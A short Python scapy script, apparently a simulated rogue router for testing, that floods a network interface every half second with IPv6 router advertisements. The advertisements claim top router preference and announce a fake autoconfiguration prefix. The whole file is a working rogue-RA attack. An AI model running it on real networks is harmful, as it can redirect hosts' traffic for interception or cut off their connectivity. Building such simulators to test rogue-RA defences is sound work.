"""A machine that sends router advertisements it should not: ``python ipv6_rogue.py DEVICE``, twice a second."""

import sys
import time

from scapy.config import conf

conf.route_autoload = conf.route6_autoload = False

from scapy.layers.inet6 import ICMPv6ND_RA, ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, IPv6  # noqa: E402
from scapy.layers.l2 import Ether  # noqa: E402
from scapy.sendrecv import sendp  # noqa: E402

MAC = "00:16:3e:ba:d0:01"
FRAME = (
    Ether(src=MAC, dst="33:33:00:00:00:01")
    / IPv6(src="fe80::bad", dst="ff02::1", hlim=255)
    / ICMPv6ND_RA(routerlifetime=1800, prf=3)
    / ICMPv6NDOptSrcLLAddr(lladdr=MAC)
    / ICMPv6NDOptPrefixInfo(prefixlen=64, prefix="2400:bad:bad:1::", validlifetime=3600, preferredlifetime=1800, L=1, A=1)
)

while True:
    sendp(FRAME, iface=sys.argv[1], verbose=0)
    time.sleep(0.5)
